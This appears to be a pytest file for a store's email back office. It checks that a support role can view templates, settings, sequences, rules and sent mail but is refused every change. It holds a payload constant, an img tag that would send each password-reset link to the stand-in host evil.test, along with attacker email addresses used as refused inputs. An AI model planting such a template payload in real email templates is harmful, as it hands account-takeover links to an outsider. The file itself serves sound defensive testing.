"""What support may do under Emails: read everything (the templates read-only, the settings, the
follow-ups, the emails sent) and change nothing. A template decides where the links of its emails
go (a password reset's `{{ url }}` in an image's address would hand every reset link to another
site), and the seller's addresses who hears of each sale: those are the owner's."""

from __future__ import annotations

import html
import re

import pytest
from sqlmodel import Session

from postsale.notifications.adapters.tables import Email, EmailSettings, FollowUpRule, Sequence, TemplateOverride
from postsale.notifications.emails import queue_rendered
from test_notifications_backoffice_emails import ACCOUNTS, browser, rows, saved, service_app

pytestmark = pytest.mark.unit
STOLEN = '<img src="https://evil.test/?{{ url }}">'


@pytest.fixture
def app(tmp_path, monkeypatch):
    yield from service_app(tmp_path, monkeypatch)


@pytest.fixture
def made(app):
    """What the owner made: an edited template, a template of their own, the settings, a sequence,
    a rule, and an email sent."""
    owner = browser(app)
    owner.post("/admin/mail/templates/password_reset", data={
        "subject": "Reset", "html": "<p><a href=\"{{ url }}\">Reset</a></p>", "text": "{{ url }}", "action": "save"})
    owner.post("/admin/mail/templates/new", data={"name": "week-one", "subject": "Hi", "html": "<p>Hi</p>",
                                                  "text": "Hi"})
    owner.post("/admin/mail/settings", data={"seller_addresses": "sales@store.test", "notify_each_sale": "yes"})
    owner.post("/admin/mail/sequences/new", data={
        "name": "Welcome", "offer_id": "off_1", "delay": ["3"], "unit": ["days"], "template": ["week-one"],
        "submission": owner.submission("/admin/mail/sequences/new")})
    owner.post("/admin/mail/rules/new", data={
        "trigger": "no_login", "offer_id": "off_1", "days": "3", "template": "week-one", "link_offer_id": "off_2",
        "submission": owner.submission("/admin/mail/rules/new")})
    with Session(app.state.engine) as session:
        queue_rendered(session, key="k:1", template="login_link", to="ann@example.com", subject="Your login link",
                       text_body="Your code", html_body="<p>Your code</p>")
        session.commit()
    [sequence], [rule] = rows(app, Sequence), rows(app, FollowUpRule)
    return {"sequence": sequence.id, "rule": rule.id}


def state(app) -> tuple:
    """Everything support could try to change."""
    return ([(t.name, t.subject, t.html_body, t.text_body) for t in rows(app, TemplateOverride)],
            [(s.seller_addresses, s.notify_each_sale) for s in rows(app, EmailSettings)],
            sorted(s.id for s in rows(app, Sequence)), sorted(r.id for r in rows(app, FollowUpRule)),
            sorted(e.key for e in rows(app, Email)))


def posting_forms(page: str) -> list[str]:
    """Where the page's forms post, but for logging out (the layout's)."""
    actions = re.findall(r'<form[^>]*method="post"[^>]*action="([^"]+)"', page)
    return [action for action in actions if action != f"{ACCOUNTS}/admin/logout"]


def test_support_reads_every_emails_page_without_a_form_that_changes_anything(app, made):
    support = browser(app, "support")
    for path in ("/admin/mail", "/admin/mail/templates", "/admin/mail/templates/password_reset",
                 "/admin/mail/templates/week-one", "/admin/mail/templates/login_link", "/admin/mail/settings",
                 "/admin/mail/sequences", "/admin/mail/rules", "/admin/mail/sent", "/admin/mail/sent/k%3A1"):
        page = support.get(path)
        assert page.status_code == 200, path
        assert posting_forms(page.text) == [], path
        for button in ("Save", "Preview the draft", "Send a test email", "Reset to Postsale's default",
                       "Delete this template", "Create a template of your own", "Create a sequence", "Create a rule",
                       "Yes, delete"):
            assert button not in html.unescape(page.text), (path, button)

    editor = html.unescape(support.text("/admin/mail/templates/password_reset"))
    assert 'data-template-source' in editor and '<a href="{{ url }}">Reset</a>' in editor  # read-only
    assert "Only the store's owner may change it" in editor and "data-preview" in editor
    assert 'name="subject"' not in editor and 'name="html"' not in editor
    settings = support.text("/admin/mail/settings")
    assert "sales@store.test" in settings and 'name="seller_addresses"' not in settings
    assert "Welcome" in support.text("/admin/mail/sequences") and "week-one" in support.text("/admin/mail/rules")
    assert "Your login link" in support.text("/admin/mail/sent")


def test_the_owner_sees_the_forms_support_does_not(app, made):
    owner = browser(app)
    assert "/admin/mail/templates/password_reset" in posting_forms(owner.get("/admin/mail/templates/password_reset").text)
    assert posting_forms(owner.get("/admin/mail/settings").text) == ["/admin/mail/settings"]
    assert f"/admin/mail/sequences/{made['sequence']}/delete" in posting_forms(owner.get("/admin/mail/sequences").text)
    assert f"/admin/mail/rules/{made['rule']}/delete" in posting_forms(owner.get("/admin/mail/rules").text)


def test_support_is_refused_every_change_and_nothing_changes(app, made):
    support = browser(app, "support")
    before = state(app)
    token = "a" * 24
    for path, data in (
        ("/admin/mail/templates/password_reset", {"subject": "Reset", "html": STOLEN, "text": "x", "action": "save"}),
        ("/admin/mail/templates/password_reset", {"subject": "Reset", "html": STOLEN, "text": "x",
                                                  "action": "preview"}),
        ("/admin/mail/templates/password_reset/reset", {}),
        ("/admin/mail/templates/week-one/reset", {}),
        ("/admin/mail/templates/new", {"name": "steal", "subject": "S", "html": STOLEN, "text": "x"}),
        ("/admin/mail/templates/login_link/test-send", {"to": "me@evil.test", "submission": token}),
        ("/admin/mail/settings", {"seller_addresses": "me@evil.test", "notify_each_sale": "yes"}),
        ("/admin/mail/sequences/new", {"name": "N", "offer_id": "off_1", "delay": ["1"], "unit": ["days"],
                                       "template": ["week-one"], "submission": token}),
        (f"/admin/mail/sequences/{made['sequence']}/delete", {}),
        ("/admin/mail/rules/new", {"trigger": "no_login", "offer_id": "off_1", "days": "3", "template": "week-one",
                                   "link_offer_id": "off_2", "submission": token}),
        (f"/admin/mail/rules/{made['rule']}/delete", {}),
    ):
        refused = support.post(path, data=data)
        assert refused.status_code == 403, path
        assert "Only the store's owner may do this" in html.unescape(refused.text), path
    for path in ("/admin/mail/templates/new", "/admin/mail/sequences/new", "/admin/mail/rules/new"):
        assert support.get(path).status_code == 403, path
    assert state(app) == before
    assert STOLEN not in saved(app, "password_reset").html_body
